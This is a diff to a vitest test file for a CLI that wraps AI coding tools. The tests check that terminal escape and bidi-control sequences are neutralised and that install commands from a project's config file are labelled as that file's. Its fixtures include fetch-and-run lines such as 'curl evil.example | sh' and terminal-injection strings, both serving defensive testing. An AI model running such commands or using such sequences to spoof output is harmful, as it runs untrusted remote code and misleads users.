@@ -1,4 +1,4 @@
-import { mkdirSync } from "node:fs";
+import { chmodSync, mkdirSync } from "node:fs";
 import { join } from "node:path";
 import { describe, expect, test } from "vitest";
 import { AnswerView } from "../../src/cli/render/answer-view.ts";
@@ -9,12 +9,12 @@ import { colorsFor } from "../../src/cli/render/screen.ts";
 import { toShortTime } from "../../src/cli/render/terminal-text.ts";
 import { createFailure, type EventBody, type HealthReport } from "../../src/index.ts";
 import type { SpentQuota } from "../../src/spec/policy.ts";
-import { cox, temporaryFolder } from "./start-cox.ts";
+import { ask, cox, coxWith, temporaryFolder } from "./start-cox.ts";
 
 /** Sets the title of a terminal, clears it, and continues with a line that imitates one of cox. */
-const HOSTILE = "\u001b]0;x\u0007\u001b[2J\u009b2J\r\n✗ forged";
+const HOSTILE = "\u001b]0;x\u0007\u001b[2J\u009b2J\u202e\u2066\r\n✗ forged";
 // biome-ignore lint/suspicious/noControlCharactersInRegex: these are the characters that must not be there
-const STEERS = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;
+const STEERS = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]|\p{Bidi_Control}/u;
 
 const plain = colorsFor(Object.assign(Object.create(process.stdout), { isTTY: false }));
 const later = new Date(Date.now() + 3_600_000).toISOString();
@@ -30,7 +30,7 @@ function expectHarmless(text: string): void {
 
 describe("an invalid time", () => {
   test("cannot control a terminal and stays on its line", () => {
-    expect(toShortTime(HOSTILE)).toBe("]0;x[2J2J ✗ forged");
+    expect(toShortTime("\u001b]0;x\u0007\u009b2J\r\n✗ forged")).toBe("\\u001b]0;x\\u0007\\u009b2J ✗ forged");
     expect(toShortTime("x".repeat(1000)).length).toBeLessThanOrEqual(40);
   });
 
@@ -85,6 +85,7 @@ describe("text of files and CLIs in the output of cox doctor", () => {
       { report: { ...report, provider: "away", failures: [missing] }, from: "", install: `npm${HOSTILE}`, spent: [] },
     ],
     mistakes: [HOSTILE],
+    warnings: [{ code: "path-relative", message: HOSTILE, hint: HOSTILE }],
     unasked: [{ id: "theirs", from: HOSTILE }],
   };
 
@@ -126,6 +127,27 @@ describe("text of a CLI in the lines about a run", () => {
   });
 });
 
+describe.concurrent("text of a CLI in JSON", () => {
+  const said = { type: "result", subtype: "success", is_error: false, result: `a\u009b2J\u202eb\u007f\u2067c` };
+
+  test.each([[], ["--result"]])("is escaped and has the same meaning: cox decode %s", async (...options) => {
+    const { stdout } = await coxWith(`${JSON.stringify(said)}\n`, ["decode", "claude", ...options]);
+    expectHarmless(stdout);
+    expect(stdout).toContain("a\\u009b2J\\u202eb\\u007f\\u2067c");
+    const values = stdout.trim().split("\n");
+    const isSaid = ({ text }: { readonly text?: string }): boolean => text === said.result;
+    expect(values.map((line) => JSON.parse(line)).some(isSaid)).toBe(true);
+  });
+
+  test("is escaped by cox ask --json, --stream-json and --dry-run", async () => {
+    for (const option of ["--json", "--stream-json", "--dry-run"]) {
+      const { stdout } = await ask([option, "--system", said.result, said.result]);
+      expectHarmless(stdout);
+    }
+    expect((await ask(["--dry-run", said.result])).stdout).toContain("\\u009b2J");
+  });
+});
+
 describe.concurrent("a configuration file with terminal codes in it", () => {
   const provider = {
     providerId: "own",
@@ -156,5 +178,31 @@ describe.concurrent("a configuration file with terminal codes in it", () => {
     expect(exitCode).toBe(2);
     expectHarmless(stderr);
     expect(stderr).toMatch(/^✗ .+\n→ .+\n$/);
+  });
+});
+
+describe.concurrent("a configuration file with commands", () => {
+  test("the commands and hints of a project's file are shown as that file's", async () => {
+    using folder = temporaryFolder();
+    const options = { cwd: folder.path, env: { HOME: folder.path, XDG_STATE_HOME: folder.path, PATH: "/usr/bin:/bin" } };
+    const errors = [{ text: "no key", code: "not-logged-in", hint: "Get a key.", fixCommand: "curl x.example | sh" }];
+    const away = { providerId: "away", label: "Claude Code", command: "no-such-program", install: "curl evil.example | sh" };
+    const here = { providerId: "here", command: "./here", login: "here login", errors };
+    chmodSync(folder.write("here", "#!/bin/sh\necho no key >&2; exit 1\n"), 0o755);
+    folder.write("coxswain.config.json", JSON.stringify({ providers: [away, here] }));
+    const asked = await cox(["ask", "--provider", "away", "hi"], options);
+    expect(asked.stderr).toContain("coxswain.config.json names this command: curl evil.example | sh\n");
+    expect(asked.stderr).not.toContain("Run: ");
+    const doctor = await cox(["doctor", "away", "gemini"], options);
+    expect(doctor.stdout).toContain("\nTo install missing CLIs, coxswain.config.json names:\n  away  curl evil.example | sh\n");
+    expect(doctor.stdout).toContain("\nTo install the missing CLIs:\n  gemini  npm install");
+    const { stdout } = await cox(["providers"], options);
+    expect(stdout).toContain("To install Claude Code, coxswain.config.json names: curl evil.example | sh\n");
+    const failed = await cox(["ask", "--json", "--provider", "here", "hi"], options);
+    expect(JSON.parse(failed.stdout).failure).toMatchObject({
+      hint: expect.stringMatching(/coxswain\.config\.json says: Get a key\.$/),
+      fixCommand: "curl x.example | sh",
+      fixFrom: expect.stringMatching(/\/coxswain\.config\.json$/),
+    });
   });
 });
